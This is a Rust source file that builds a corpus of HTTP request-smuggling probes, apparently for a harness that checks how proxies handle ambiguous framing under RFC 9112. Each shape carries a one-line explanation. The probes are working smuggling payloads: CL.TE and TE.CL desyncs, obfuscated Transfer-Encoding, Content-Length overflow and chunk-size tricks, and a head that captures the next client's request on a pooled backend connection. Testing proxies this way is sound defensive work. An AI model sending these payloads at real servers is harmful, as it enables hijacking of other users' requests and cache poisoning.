//! The request-smuggling corpus: raw client bytes, how many requests the client meant, and what
//! each shape tries.
//!
//! Conventions: the client's own requests go to `/a` (and `/second`, `/third` when pipelined);
//! bytes that only become a request when some parser misreads the framing say `/SMUGGLED`. Most
//! bodies are built from two payloads:
//!
//! - [`G`]: a complete `GET /SMUGGLED` request (35 bytes). As a body it is harmless; a parser
//!   that gets the framing wrong sends it on as a second request.
//! - [`S`]: a `POST /SMUGGLED` head announcing a 150-byte body. Once a backend reads it as a
//!   request, the *next* bytes on that backend connection — another client's request, when the
//!   proxy pools connections — become its body.
//!
//! "Meant" is the number of requests a client following RFC 9112 sends with these bytes; for
//! ambiguous framing (CL and TE both, bad Transfer-Encoding) it is the number the attacker
//! pretends to send, which is also all a proxy may forward: RFC 9112 §6.1 and §6.3 require it
//! to refuse such a request, or to answer it and close the connection.

pub struct Shape {
    pub name: &'static str,
    /// How many requests the client meant.
    pub requests: usize,
    /// What the shape tries, in one line.
    pub note: &'static str,
    pub bytes: Vec<u8>,
}

/// A complete request, as a body it should stay.
pub const G: &str = "GET /SMUGGLED HTTP/1.1\r\nHost: x\r\n\r\n";
/// A request head whose 150-byte body is whatever comes next on the backend connection.
pub const S: &str = "POST /SMUGGLED HTTP/1.1\r\nHost: x\r\nContent-Length: 150\r\n\r\n";
/// A legitimate pipelined second request.
const SECOND: &str = "GET /second HTTP/1.1\r\nHost: shop.test\r\n\r\n";
const LAST: &str = "0\r\n\r\n";

fn shape(
    name: &'static str,
    requests: usize,
    note: &'static str,
    bytes: impl AsRef<[u8]>,
) -> Shape {
    Shape {
        name,
        requests,
        note,
        bytes: bytes.as_ref().to_vec(),
    }
}

/// `POST /a` with `Host: shop.test`, then `headers` (each ending in CRLF), the blank line, `body`.
fn post(headers: &str, body: &str) -> String {
    format!("POST /a HTTP/1.1\r\nHost: shop.test\r\n{headers}\r\n{body}")
}

fn get(headers: &str) -> String {
    format!("GET /a HTTP/1.1\r\nHost: shop.test\r\n{headers}\r\n")
}

/// `Content-Length: <len of body>\r\n`.
fn cl(body: &str) -> String {
    format!("Content-Length: {}\r\n", body.len())
}

/// One chunk carrying `data`.
fn chunk(data: &str) -> String {
    format!("{:x}\r\n{data}\r\n", data.len())
}

/// A CL.TE probe: `Content-Length` covers the whole body, and the body is a terminated chunked
/// body followed by [`G`]. A parser that believes `te` ends the body after `0\r\n\r\n` and
/// sees `G` as a second request; one that does not, a body of 40 bytes.
fn cl_te(te_line: &str) -> String {
    let body = format!("{LAST}{G}");
    post(&format!("{}{te_line}\r\n", cl(&body)), &body)
}

pub fn corpus() -> Vec<Shape> {
    let chunked_s = format!("{}{LAST}", chunk(S));
    let cl_te_body = format!("{LAST}{G}");
    let big = |n: usize| "b".repeat(n);
    let many_headers =
        |n: usize| -> String { (0..n).map(|i| format!("X-H{i}: {i}\r\n")).collect() };
    vec![
        // ---- Baselines: every proxy must forward these (else the harness is broken).
        shape("baseline-get", 1, "an ordinary GET", get("")),
        shape(
            "baseline-post-cl",
            1,
            "an ordinary POST with Content-Length",
            post(&cl("hello"), "hello"),
        ),
        shape(
            "baseline-post-chunked",
            1,
            "an ordinary chunked POST",
            post(
                "Transfer-Encoding: chunked\r\n",
                &format!("{}{LAST}", chunk("hello")),
            ),
        ),
        shape(
            "baseline-pipelined",
            2,
            "two pipelined GETs",
            format!("{}{SECOND}", get("")),
        ),
        // ---- Connection naming a framing header.
        shape(
            "conn-content-length",
            1,
            "Connection names Content-Length: dropped as hop-by-hop but framed by, the body S goes bare and poisons the backend connection",
            post(&format!("Connection: Content-Length\r\n{}", cl(S)), S),
        ),
        shape(
            "conn-content-length-lower",
            1,
            "the same in lower case",
            post(&format!("connection: content-length\r\n{}", cl(S)), S),
        ),
        shape(
            "conn-keep-alive-content-length",
            1,
            "Content-Length hidden in a list after keep-alive",
            post(
                &format!("Connection: keep-alive, Content-Length\r\n{}", cl(S)),
                S,
            ),
        ),
        shape(
            "conn-close-content-length",
            1,
            "Content-Length listed after close",
            post(
                &format!("Connection: close, Content-Length\r\n{}", cl(S)),
                S,
            ),
        ),
        shape(
            "conn-transfer-encoding",
            1,
            "Connection names Transfer-Encoding: the chunk framing goes on without the header, and the backend reads `39\\r\\nPOST /SMUGGLED...` as requests",
            post(
                "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n",
                &chunked_s,
            ),
        ),
        shape(
            "conn-host",
            1,
            "Connection names Host: the backend gets a request without Host",
            get("Connection: Host\r\n"),
        ),
        // ---- Transfer-Encoding other than exactly `chunked`.
        shape(
            "te-gzip-chunked",
            1,
            "a coding before chunked: still chunked framing (RFC 9112), not every proxy takes it",
            post(
                "Transfer-Encoding: gzip, chunked\r\n",
                &format!("{}{LAST}", chunk("hello")),
            ),
        ),
        shape(
            "te-chunked-chunked",
            1,
            "chunked applied twice (forbidden) plus CL: CL.TE probe",
            cl_te("Transfer-Encoding: chunked, chunked"),
        ),
        shape(
            "te-identity",
            1,
            "`identity` (no longer a coding) with CL: one parser frames by CL, another by nothing",
            post(&format!("Transfer-Encoding: identity\r\n{}", cl(G)), G),
        ),
        shape(
            "te-two-headers-chunked-identity",
            1,
            "two TE headers, chunked first: the combined value does not end in chunked",
            cl_te("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity"),
        ),
        shape(
            "te-two-headers-identity-chunked",
            1,
            "two TE headers, chunked last: first-header readers see identity",
            cl_te("Transfer-Encoding: identity\r\nTransfer-Encoding: chunked"),
        ),
        shape(
            "te-upper-case",
            1,
            "CHUNKED in capitals (valid; a case-sensitive parser frames by CL)",
            cl_te("Transfer-Encoding: CHUNKED"),
        ),
        shape(
            "te-name-mixed-case",
            1,
            "a mixed-case header name (valid)",
            cl_te("TrAnSfEr-EnCoDiNg: chunked"),
        ),
        shape(
            "te-tab",
            1,
            "a tab before chunked (valid OWS)",
            cl_te("Transfer-Encoding:\tchunked"),
        ),
        shape(
            "te-trailing-space",
            1,
            "a space after chunked (valid OWS)",
            cl_te("Transfer-Encoding: chunked "),
        ),
        shape(
            "te-vertical-tab-before",
            1,
            "a vertical tab before chunked (not OWS: trimmed by some, part of the token for others)",
            cl_te("Transfer-Encoding:\x0bchunked"),
        ),
        shape(
            "te-vertical-tab-after",
            1,
            "a vertical tab after chunked",
            cl_te("Transfer-Encoding: chunked\x0b"),
        ),
        shape(
            "te-xchunked",
            1,
            "xchunked: a substring match says chunked",
            cl_te("Transfer-Encoding: xchunked"),
        ),
        shape(
            "te-quoted",
            1,
            "\"chunked\" in quotes",
            cl_te("Transfer-Encoding: \"chunked\""),
        ),
        shape(
            "te-space-before-colon",
            1,
            "`Transfer-Encoding : chunked`: invalid, ignored by some, trimmed by lenient backends",
            cl_te("Transfer-Encoding : chunked"),
        ),
        shape(
            "te-obs-fold",
            1,
            "the TE value on a continuation line",
            cl_te("Transfer-Encoding:\r\n chunked"),
        ),
        shape(
            "te-leading-space-line",
            1,
            "a header line starting with a space: a fold to one parser, a TE header to another",
            cl_te("X-A: 1\r\n Transfer-Encoding: chunked"),
        ),
        shape(
            "te-xchunked-no-cl",
            1,
            "xchunked alone: no body to one parser, chunked to a substring matcher",
            post("Transfer-Encoding: xchunked\r\n", &chunked_s),
        ),
        shape(
            "te-http10",
            1,
            "HTTP/1.0 with TE chunked and CL (RFC 9112: faulty framing)",
            format!(
                "POST /a HTTP/1.0\r\nHost: shop.test\r\n{}Transfer-Encoding: chunked\r\n\r\n{cl_te_body}",
                cl(&cl_te_body)
            ),
        ),
        shape(
            "te-http10-no-cl",
            1,
            "HTTP/1.0 with TE chunked only",
            format!(
                "POST /a HTTP/1.0\r\nHost: shop.test\r\nTransfer-Encoding: chunked\r\n\r\n{}{LAST}",
                chunk("hello")
            ),
        ),
        // ---- Content-Length and Transfer-Encoding both.
        shape(
            "cl-te",
            1,
            "CL then TE: CL readers forward G as body, TE readers see G as a request",
            cl_te("Transfer-Encoding: chunked"),
        ),
        shape(
            "te-cl",
            1,
            "TE then a short CL: CL readers stop after `23\\r\\n` and take the chunk data as a request",
            post(
                "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n",
                &format!("{}{LAST}", chunk(G)),
            ),
        ),
        shape(
            "cl-te-zero",
            1,
            "CL 0 with TE chunked: the chunked body becomes a request to CL readers",
            post(
                "Content-Length: 0\r\nTransfer-Encoding: chunked\r\n",
                &format!("{}{LAST}", chunk(G)),
            ),
        ),
        // ---- Content-Length values.
        shape(
            "cl-dup-same",
            1,
            "two equal Content-Length headers (RFC: may be taken as one)",
            post(&format!("{}{}", cl(G), cl(G)), G),
        ),
        shape(
            "cl-dup-conflict",
            1,
            "Content-Length 0 then 35: first-header readers see G as a request",
            post(&format!("Content-Length: 0\r\n{}", cl(G)), G),
        ),
        shape(
            "cl-list-same",
            1,
            "`Content-Length: 5, 5`",
            post("Content-Length: 5, 5\r\n", "hello"),
        ),
        shape(
            "cl-list-conflict",
            1,
            "`Content-Length: 5, 6`: first-item readers leave one byte behind",
            post("Content-Length: 5, 6\r\n", "hello!"),
        ),
        shape(
            "cl-plus",
            1,
            "`+35`: Java's parseLong takes it, RFC 9110 does not",
            post("Content-Length: +35\r\n", G),
        ),
        shape(
            "cl-negative",
            1,
            "`-1`: a parser that reads no body sees G as a request",
            post("Content-Length: -1\r\n", G),
        ),
        shape(
            "cl-hex",
            1,
            "`0x23` (35 in hex)",
            post("Content-Length: 0x23\r\n", G),
        ),
        shape(
            "cl-padded",
            1,
            "`  35  `: OWS around the value (valid)",
            post("Content-Length:   35  \r\n", G),
        ),
        shape(
            "cl-inner-space",
            1,
            "`3 5`: a digit-skipping parser reads 35 or 3",
            post("Content-Length: 3 5\r\n", G),
        ),
        shape(
            "cl-huge",
            1,
            "23 nines: overflows every integer type",
            post("Content-Length: 99999999999999999999999\r\n", G),
        ),
        shape(
            "cl-u64-wrap",
            1,
            "2^64 + 35: a wrapping parser reads 35",
            post("Content-Length: 18446744073709551651\r\n", G),
        ),
        shape(
            "cl-empty",
            1,
            "an empty Content-Length",
            post("Content-Length: \r\n", G),
        ),
        shape(
            "cl-leading-zeros",
            1,
            "`0035` (valid)",
            post("Content-Length: 0035\r\n", G),
        ),
        shape(
            "cl-space-before-colon",
            1,
            "`Content-Length : 35`: ignored by one parser (G becomes a request), trimmed by another",
            post("Content-Length : 35\r\n", G),
        ),
        shape(
            "cl-underscore",
            2,
            "`Content_Length: 35`: not a framing header, so G is a second request; a backend mapping _ to - would read it as the body",
            post("Content_Length: 35\r\n", G),
        ),
        shape(
            "te-underscore",
            1,
            "`Transfer_Encoding: chunked` with CL: framed by CL; a backend mapping _ to - would see G as a request",
            cl_te("Transfer_Encoding: chunked"),
        ),
        // ---- Chunk sizes, extensions, trailers.
        shape(
            "chunk-size-overflow",
            1,
            "chunk size 2^64 + 5: a wrapping parser reads 5",
            post(
                "Transfer-Encoding: chunked\r\n",
                &format!("10000000000000005\r\nhello\r\n{LAST}"),
            ),
        ),
        shape(
            "chunk-size-negative",
            1,
            "chunk size -5",
            post(
                "Transfer-Encoding: chunked\r\n",
                &format!("-5\r\nhello\r\n{LAST}"),
            ),
        ),
        shape(
            "chunk-size-0x",
            1,
            "chunk size `0x5`: a parser stopping at the first non-digit reads the last chunk",
            post(
                "Transfer-Encoding: chunked\r\n",
                &format!("0x5\r\nhello\r\n{LAST}"),
            ),
        ),
        shape(
            "chunk-size-bare-lf",
            1,
            "a chunk-size line ended by a bare LF",
            post(
                "Transfer-Encoding: chunked\r\n",
                &format!("5\nhello\r\n{LAST}"),
            ),
        ),
        shape(
            "chunk-size-16-digits",
            1,
            "16 hex digits (leading zeros): the most a u64 holds",
            post(
                "Transfer-Encoding: chunked\r\n",
                &format!("0000000000000005\r\nhello\r\n{LAST}"),
            ),
        ),
        shape(
            "chunk-size-17-digits",
            1,
            "17 hex digits (leading zeros): refused by length-capped parsers",
            post(
                "Transfer-Encoding: chunked\r\n",
                &format!("00000000000000005\r\nhello\r\n{LAST}"),
            ),
        ),
        shape(
            "chunk-size-trailing-space",
            1,
            "`5 ` (BWS before the end of the line)",
            post(
                "Transfer-Encoding: chunked\r\n",
                &format!("5 \r\nhello\r\n{LAST}"),
            ),
        ),
        shape(
            "chunk-size-leading-space",
            1,
            "` 5`",
            post(
                "Transfer-Encoding: chunked\r\n",
                &format!(" 5\r\nhello\r\n{LAST}"),
            ),
        ),
        shape(
            "chunk-data-no-crlf",
            1,
            "no CRLF after the chunk data: a parser that skips two bytes blindly eats `XX`",
            post(
                "Transfer-Encoding: chunked\r\n",
                &format!("5\r\nhelloXX{LAST}"),
            ),
        ),
        shape(
            "chunk-ext-bare-cr",
            1,
            "a bare CR inside a chunk extension",
            post(
                "Transfer-Encoding: chunked\r\n",
                &format!("5;a\rb\r\nhello\r\n{LAST}"),
            ),
        ),
        shape(
            "chunk-ext-bare-lf",
            1,
            "a bare LF inside a chunk extension: LF-terminating parsers start the data early",
            post(
                "Transfer-Encoding: chunked\r\n",
                &format!("5;a\nb\r\nhello\r\n{LAST}"),
            ),
        ),
        shape(
            "chunk-trailer-no-colon",
            1,
            "a trailer line without a colon",
            post(
                "Transfer-Encoding: chunked\r\n",
                &format!("{}0\r\nX-Bad\r\n\r\n", chunk("hello")),
            ),
        ),
        shape(
            "chunk-trailer-content-length",
            1,
            "Content-Length in the trailers (must not change the framing)",
            post(
                "Transfer-Encoding: chunked\r\n",
                &format!("{}0\r\nContent-Length: 50\r\n\r\n", chunk("hello")),
            ),
        ),
        shape(
            "chunk-trailer-obs-fold",
            1,
            "a folded trailer line",
            post(
                "Transfer-Encoding: chunked\r\n",
                &format!("{}0\r\nX-T: a\r\n b\r\n\r\n", chunk("hello")),
            ),
        ),
        shape(
            "chunk-then-request",
            2,
            "a chunked body followed by a pipelined request (legitimate)",
            format!(
                "{}{SECOND}",
                post(
                    "Transfer-Encoding: chunked\r\n",
                    &format!("{}{LAST}", chunk("hello"))
                )
            ),
        ),
        // ---- Host.
        shape(
            "host-duplicate",
            1,
            "two Host headers (RFC 9112: 400)",
            "GET /a HTTP/1.1\r\nHost: shop.test\r\nHost: evil.test\r\n\r\n",
        ),
        shape(
            "host-missing",
            1,
            "HTTP/1.1 without Host (RFC 9112: 400)",
            "GET /a HTTP/1.1\r\nX-A: 1\r\n\r\n",
        ),
        shape(
            "host-space",
            1,
            "a space inside Host",
            "GET /a HTTP/1.1\r\nHost: shop.test evil.test\r\n\r\n",
        ),
        shape(
            "host-path",
            1,
            "a path inside Host",
            "GET /a HTTP/1.1\r\nHost: shop.test/evil\r\n\r\n",
        ),
        shape(
            "host-at",
            1,
            "userinfo in Host: `user@evil.test`",
            "GET /a HTTP/1.1\r\nHost: shop.test@evil.test\r\n\r\n",
        ),
        shape(
            "host-empty",
            1,
            "an empty Host",
            "GET /a HTTP/1.1\r\nHost: \r\n\r\n",
        ),
        // ---- Methods.
        shape(
            "method-connect",
            1,
            "CONNECT with G after the head: a proxy that tunnels on the backend's 200 sends G raw",
            format!("CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n{G}"),
        ),
        shape(
            "method-trace",
            1,
            "TRACE (echoes headers, e.g. cookies added downstream)",
            "TRACE /a HTTP/1.1\r\nHost: shop.test\r\n\r\n",
        ),
        shape(
            "method-lower-case",
            1,
            "`get`: methods are case-sensitive, so an unknown method",
            "get /a HTTP/1.1\r\nHost: shop.test\r\n\r\n",
        ),
        shape(
            "method-bad-chars",
            1,
            "`G(E)T`: not a token",
            "G(E)T /a HTTP/1.1\r\nHost: shop.test\r\n\r\n",
        ),
        // ---- Request targets.
        shape(
            "target-absolute-other-host",
            1,
            "absolute-form naming another host than Host (the target's authority wins)",
            "GET http://other.example/a HTTP/1.1\r\nHost: x\r\n\r\n",
        ),
        shape(
            "target-absolute-https",
            1,
            "absolute-form with https to a plain-HTTP listener",
            "GET https://other.example/a HTTP/1.1\r\nHost: x\r\n\r\n",
        ),
        shape(
            "target-asterisk-get",
            1,
            "asterisk-form on GET (only OPTIONS may)",
            "GET * HTTP/1.1\r\nHost: shop.test\r\n\r\n",
        ),
        shape(
            "target-asterisk-options",
            1,
            "`OPTIONS *` (legitimate)",
            "OPTIONS * HTTP/1.1\r\nHost: shop.test\r\n\r\n",
        ),
        shape(
            "target-no-slash",
            1,
            "a target without a leading slash",
            "GET a HTTP/1.1\r\nHost: shop.test\r\n\r\n",
        ),
        shape(
            "target-with-space",
            1,
            "a space inside the target: four words on the request line",
            "GET /a b HTTP/1.1\r\nHost: shop.test\r\n\r\n",
        ),
        // ---- Header syntax.
        shape(
            "obs-fold",
            1,
            "a header continued on the next line (obsolete line folding)",
            get("X-A: 1\r\n 2\r\n"),
        ),
        shape(
            "header-space-before-colon",
            1,
            "`X-A : 1`",
            get("X-A : 1\r\n"),
        ),
        shape(
            "header-nul",
            1,
            "a NUL inside a value",
            get("X-A: a\0b\r\n"),
        ),
        shape(
            "header-bare-cr-inside",
            1,
            "a bare CR inside a value",
            get("X-A: a\rb\r\n"),
        ),
        shape(
            "header-bare-lf-hides-te",
            1,
            "`X-A: a<LF>Transfer-Encoding: chunked`: one header to CRLF-only parsers, a TE header to LF-lenient ones",
            post(
                &format!("X-A: a\nTransfer-Encoding: chunked\r\n{}", cl(&cl_te_body)),
                &cl_te_body,
            ),
        ),
        shape(
            "header-bare-cr-hides-te",
            1,
            "`X-A: a<CR>Transfer-Encoding: chunked`: CR taken as a line end by some",
            post(
                &format!("X-A: a\rTransfer-Encoding: chunked\r\n{}", cl(&cl_te_body)),
                &cl_te_body,
            ),
        ),
        shape(
            "header-no-colon",
            1,
            "a header line without a colon",
            get("X-No-Colon\r\n"),
        ),
        shape(
            "header-empty-name",
            1,
            "`: x` (empty field name)",
            get(": x\r\n"),
        ),
        shape(
            "header-name-space",
            1,
            "`X A: 1` (space inside the name)",
            get("X A: 1\r\n"),
        ),
        // ---- Line endings and the request line.
        shape(
            "lf-line-endings",
            1,
            "bare LF line endings throughout (RFC 9112 lets a recipient accept them)",
            "GET /a HTTP/1.1\nHost: shop.test\n\n",
        ),
        shape(
            "lf-line-endings-post",
            1,
            "a POST with bare LF line endings and a body",
            "POST /a HTTP/1.1\nHost: shop.test\nContent-Length: 5\n\nhello",
        ),
        shape(
            "bare-cr-line-end",
            1,
            "a bare CR ending the request line",
            "GET /a HTTP/1.1\rHost: shop.test\r\n\r\n",
        ),
        shape(
            "leading-empty-line",
            1,
            "an empty line before the request line (RFC 9112: may be ignored)",
            format!("\r\n{}", get("")),
        ),
        shape(
            "request-line-double-space",
            1,
            "two spaces between method and target",
            "GET  /a HTTP/1.1\r\nHost: shop.test\r\n\r\n",
        ),
        // ---- Versions.
        shape(
            "http09",
            1,
            "an HTTP/0.9 request line (no version, no headers)",
            "GET /a\r\n",
        ),
        shape(
            "http20-line",
            1,
            "`HTTP/2.0` on an HTTP/1 request line",
            "GET /a HTTP/2.0\r\nHost: shop.test\r\n\r\n",
        ),
        shape(
            "http12-line",
            1,
            "`HTTP/1.2` (RFC 9110: handle as the highest 1.x supported)",
            "GET /a HTTP/1.2\r\nHost: shop.test\r\n\r\n",
        ),
        shape(
            "http-lower-case-version",
            1,
            "`http/1.1` (the name is case-sensitive)",
            "GET /a http/1.1\r\nHost: shop.test\r\n\r\n",
        ),
        // ---- Expect.
        shape(
            "expect-100-with-body",
            1,
            "Expect: 100-continue with the body sent at once",
            post(&format!("Expect: 100-continue\r\n{}", cl("hello")), "hello"),
        ),
        shape(
            "expect-100-body-is-request",
            1,
            "Expect: 100-continue, body G: a proxy that answers without reading the body reads G as a request",
            post(&format!("Expect: 100-continue\r\n{}", cl(G)), G),
        ),
        shape(
            "expect-100-get-then-request",
            2,
            "Expect: 100-continue on a GET without body, then a pipelined request",
            format!("{}{SECOND}", get("Expect: 100-continue\r\n")),
        ),
        shape(
            "expect-unknown",
            1,
            "an unknown expectation with body G: a 417 that leaves the body unread reads G as a request",
            post(&format!("Expect: x-unknown\r\n{}", cl(G)), G),
        ),
        // ---- Upgrade.
        shape(
            "upgrade-h2c",
            2,
            "an h2c upgrade (the backend declines: 200), then a pipelined request",
            format!(
                "{}{SECOND}",
                get(
                    "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n"
                )
            ),
        ),
        shape(
            "upgrade-websocket",
            2,
            "a WebSocket upgrade (the backend declines: 200), then a pipelined request a blind tunnel would pass raw",
            format!(
                "{}{SECOND}",
                get(
                    "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
                )
            ),
        ),
        // ---- Pipelining with bodies.
        shape(
            "pipelined-post-then-get",
            2,
            "a POST with a body, then a GET",
            format!("{}{SECOND}", post(&cl("hello"), "hello")),
        ),
        shape(
            "pipelined-three",
            3,
            "POST (CL), POST (chunked), GET",
            format!(
                "{}{}GET /third HTTP/1.1\r\nHost: shop.test\r\n\r\n",
                post(&cl("hello"), "hello"),
                post(
                    "Transfer-Encoding: chunked\r\n",
                    &format!("{}{LAST}", chunk("world"))
                ),
            ),
        ),
        shape(
            "cl-zero-then-request",
            2,
            "Content-Length: 0, then a pipelined request",
            format!("{}{SECOND}", post("Content-Length: 0\r\n", "")),
        ),
        // ---- Sizes.
        shape(
            "head-12k",
            1,
            "one 12 KiB header (above nginx's 8 KiB buffers)",
            get(&format!("X-Big: {}\r\n", big(12 * 1024))),
        ),
        shape(
            "head-70k",
            1,
            "one 70 KiB header (above every proxy's head limit)",
            get(&format!("X-Big: {}\r\n", big(70 * 1024))),
        ),
        shape(
            "uri-10k",
            1,
            "a 10 KiB request target",
            format!(
                "GET /a?{} HTTP/1.1\r\nHost: shop.test\r\n\r\n",
                big(10 * 1024)
            ),
        ),
        shape(
            "headers-110",
            1,
            "110 headers (HAProxy's default limit is 101)",
            get(&many_headers(110)),
        ),
        shape("headers-200", 1, "200 headers", get(&many_headers(200))),
        // ---- Bodies on GET and HEAD.
        shape(
            "get-with-body",
            1,
            "GET with a Content-Length body G: a proxy that ignores GET bodies sends G as a request",
            format!("GET /a HTTP/1.1\r\nHost: shop.test\r\n{}\r\n{G}", cl(G)),
        ),
        shape(
            "head-with-body",
            1,
            "HEAD with a Content-Length body G",
            format!("HEAD /a HTTP/1.1\r\nHost: shop.test\r\n{}\r\n{G}", cl(G)),
        ),
        shape(
            "get-with-chunked-body",
            1,
            "GET with a chunked body",
            format!(
                "GET /a HTTP/1.1\r\nHost: shop.test\r\nTransfer-Encoding: chunked\r\n\r\n{}{LAST}",
                chunk(G)
            ),
        ),
        shape(
            "head-with-chunked-body",
            1,
            "HEAD with a chunked body",
            format!(
                "HEAD /a HTTP/1.1\r\nHost: shop.test\r\nTransfer-Encoding: chunked\r\n\r\n{}{LAST}",
                chunk(G)
            ),
        ),
    ]
}
